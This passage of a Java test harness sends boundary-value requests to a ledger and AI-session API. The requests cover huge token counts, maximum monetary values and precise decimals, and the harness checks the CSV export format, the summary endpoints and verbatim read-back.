                    csv.contains("," + cell + ",") || csv.contains("," + cell + "\n") ? cell : "not found in " + export.status()
                            + " " + Services.abbreviate(csv, 200), csv.contains(cell) && !csv.contains("," + id.replace("\"", "\"\"")));
        }
        pass &= row(rows, B, "export amounts stay numbers", ",-1.25,", csv.contains(",-1.25,") ? ",-1.25," : "missing");

        // The largest numbers the rules allow, more than once: the figures must still be read (December 2023, a period
        // the gateway never asks for in these harnesses).
        String maxTokens = "1000000000000000"; // LedgerLineValidator.MAX_TOKENS_PER_LINE, 10^15
        StringBuilder big = new StringBuilder("[");
        for (int i = 0; i < 10_000; i++) {
            big.append(i > 0 ? "," : "").append(line("rb-ok-big-" + i, "rb-big", "EXTERNAL", null, "2023-12-10", "MAAS_TOKENS",
                    "0.01", "CASH", null, Long.parseLong(maxTokens), null));
        }
        Answer bigLines = s.postJson(B, "/api/v1/ledger/lines", big + "]");
        pass &= row(rows, B, "a batch of 10,000 ledger lines of 10^15 tokens (both maxima; Σ 10^19 > 2^63)", "200", status(bigLines));
        Answer sum = s.get(B, "/api/v1/ledger/summary?period=2023-12");
        pass &= row(rows, B, "  then GET /ledger/summary?period=2023-12", "200", status(sum));
        Answer attr = s.get(B, "/api/v1/attribution?period=2023-Q4");
        pass &= row(rows, B, "  then GET /attribution?period=2023-Q4", "200", status(attr));

        String maxValue = "99999999999999999.99";
        String two = "[" + bigSession("rb-ok-v1", maxValue) + "," + bigSession("rb-ok-v2", maxValue) + "]";
        Answer twoSessions = s.postJson(Q, "/api/v1/ai-sessions", two);
        pass &= row(rows, Q, "2 sessions of the largest conversionValueCny, same feature and day", "200 or 4xx",
                status(twoSessions), twoSessions.status() == 200 || (twoSessions.status() / 100 == 4 && twoSessions.isProblem()));
        Answer oneMore = s.postJson(Q, "/api/v1/ai-sessions", "[" + bigSession("rb-ok-v3", maxValue) + "]");
        pass &= row(rows, Q, "  one more such session, separate batch", "200 or 4xx", status(oneMore),
                oneMore.status() == 200 || (oneMore.status() / 100 == 4 && oneMore.isProblem()));
        Answer third = s.postJson(Q, "/api/v1/ai-sessions", "[" + bigSession("rb-ok-v4", maxValue) + "]");
        pass &= row(rows, Q, "  and one more, separate batch, same feature and day", "200 or 4xx", status(third),
                third.status() == 200 || (third.status() / 100 == 4 && third.isProblem()));
        Answer metrics = s.get(Q, "/api/v1/apps/rb-app/metrics?period=2023-12");
        pass &= row(rows, Q, "  then GET /apps/rb-app/metrics?period=2023-12", "200", status(metrics));

        Answer p = s.putJson(T, "/api/v1/models/rb-ok-precise", "{\"family\":\"rb\",\"vendor\":\"Alibaba\",\"displayName\":\"P\","
                + "\"parametersBillions\":1234567.125,\"openSource\":true}");
        String stored = p.ok() ? s.read(T, "/api/v1/models/rb-ok-precise").path("parametersBillions").asText() : "-";
        pass &= row(rows, T, "parametersBillions 1234567.125 (the most digits allowed), read back", "201, 1234567.125",
                status(p) + ", " + stored, p.status() == 201 && stored.equals("1234567.125"));
        return pass;
    }

    private static String bigSession(String id, String value) {
        return "{\"sessionId\":\"" + id + "\",\"appId\":\"rb-app\",\"featureId\":\"rb-feat\",\"userId\":\"rb-big\",\"startedAt\":"
                + "\"2023-12-10T04:00:00Z\",\"turns\":1,\"agentCalls\":0,\"outcome\":\"RESOLVED\",\"rating\":null,\"converted\":true,"
                + "\"conversionValueCny\":" + value + "}";
    }

    private static String status(Answer a) {
        if (a.failure() != null) {
            return "no answer";
        }
        if (a.status() < 400) {
            return String.valueOf(a.status());
        }
        if (a.isProblem()) {
            JsonNode p = a.json();
            JsonNode first = p.path("errors").path(0);
            return a.status() + " " + p.path("title").asText() + (first.isMissingNode() ? ": " + p.path("detail").asText()
                    : ": item " + first.path("index").asText() + " " + first.path("field").asText() + " " + first.path("message").asText());
        }
        return a.status() + " " + Services.abbreviate(a.body(), 160);
    }

    private static String findGpuHours(JsonNode kpis) {
        JsonNode found = kpis.findValue("gpuHours");
        return found == null ? "(no gpuHours in /kpis)" : found.decimalValue().stripTrailingZeros().toPlainString();
    }

    private boolean verbatim(List<List<String>> rows, String module, String path, String field, String text, String body) {
        Answer put = s.putJson(module, path, body);
        String back = put.summary();
        if (put.ok() && path.contains("/features/")) { // features are read as their app's list
            String featureId = path.substring(path.lastIndexOf('/') + 1);
            for (JsonNode f : s.read(module, path.substring(0, path.lastIndexOf('/')))) {
                if (f.path("featureId").asText().equals(featureId)) {
                    back = f.path(field).asText();
                }
            }
        } else if (put.ok()) {
            back = s.read(module, path).path(field).asText();
        }
        return row(rows, module, "PUT " + path + " " + field + " = " + Services.abbreviate(text, 30), text, back);
    }

    private boolean ingest(List<List<String>> rows, String module, String path, String body, int distinct) {
        Answer a = s.postJson(module, path, body);
        String got = a.status() == 200 ? "accepted " + a.json().path("accepted").asInt() + ", duplicates "
                + a.json().path("duplicates").asInt() : a.summary();
        return row(rows, module, "POST " + path + ": SQL/script ids, the last id twice", "accepted " + distinct
                + ", duplicates 1", got);
    }

    private static boolean row(List<List<String>> rows, String module, String what, String expected, String got) {
        return row(rows, module, what, expected, got, expected.equals(got));
    }

    private static boolean row(List<List<String>> rows, String module, String what, String expected, String got, boolean ok) {
        rows.add(List.of(module, what, Services.abbreviate(expected, 40), Services.abbreviate(got, 120), ok ? "OK" : "FAIL"));
        return ok;
    }
}
